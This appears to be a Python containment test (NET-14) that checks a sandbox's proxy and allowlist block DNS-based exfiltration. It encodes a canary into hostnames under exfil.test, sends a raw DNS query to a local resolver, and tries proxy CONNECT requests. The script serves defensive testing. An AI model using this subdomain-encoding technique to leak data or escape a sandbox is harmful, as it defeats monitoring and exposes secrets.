#!/usr/bin/python3
# NET-14: A refused name never reaches a resolver
# Guarantee: DNS is not an exfiltration channel
# argv: N [args...]; prints ESC-<N> for anything that got through.
import os; exec(open(os.path.join(os.path.dirname(os.path.abspath(__file__)), "prelude.py")).read())  # corral: inline prelude.py

# --- attack ---
import os; exec(open(os.path.join(os.path.dirname(os.path.abspath(__file__)), "netlib.py")).read())  # corral: inline netlib.py

# Names carrying the secret, each refused by the allowlist; the proxy must refuse them
# before it resolves anything, and the sandbox has no resolver of its own.
d = f"CANARY-{N}".encode().hex()
names = [f"{d}.exfil.test", f"{d}-get.exfil.test", f"{d}.allowed.test"]
for name in names:
    try:
        socket.getaddrinfo(name, 443)
        esc(f"getaddrinfo {name} resolved")
    except socket.gaierror as e:
        say(f"getaddrinfo {name}: {e}")
# And straight to a resolver, as the lab's (127.0.0.53) would be reached from the host.
import struct
q = struct.pack(">HHHHHH", 0x1414, 0x0100, 1, 0, 0, 0)
for label in names[0].split("."):
    q += bytes([len(label)]) + label.encode()
q += b"\0" + struct.pack(">HH", 1, 1)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(0.5)
try:
    s.sendto(q, ("127.0.0.53", 53))
    s.recvfrom(512)
    esc("dns answer from 127.0.0.53")
except socket.timeout:
    say("dns 127.0.0.53: no answer")
except OSError as e:
    say(f"dns 127.0.0.53: {ename(e.errno)}")
if proxy():
    proxy_ok("n14")
    refused("CONNECT exfil", *preq(f"CONNECT {names[0]}:443 HTTP/1.1\r\nHost: {names[0]}:443\r\n\r\n"))
    refused("GET exfil", *get(names[1], "/"))
    refused("CONNECT below a listed name",
            *preq(f"CONNECT {names[2]}:8080 HTTP/1.1\r\nHost: {names[2]}:8080\r\n\r\n"))
    # A listed name on a port not listed with it (meta.test is listed for :80 only): refused
    # without the name being looked up.
    refused("CONNECT listed name, other port",
            *preq("CONNECT meta.test:8081 HTTP/1.1\r\nHost: meta.test:8081\r\n\r\n"))
    refused("GET listed name, other port", *get("meta.test:8081", "/"))
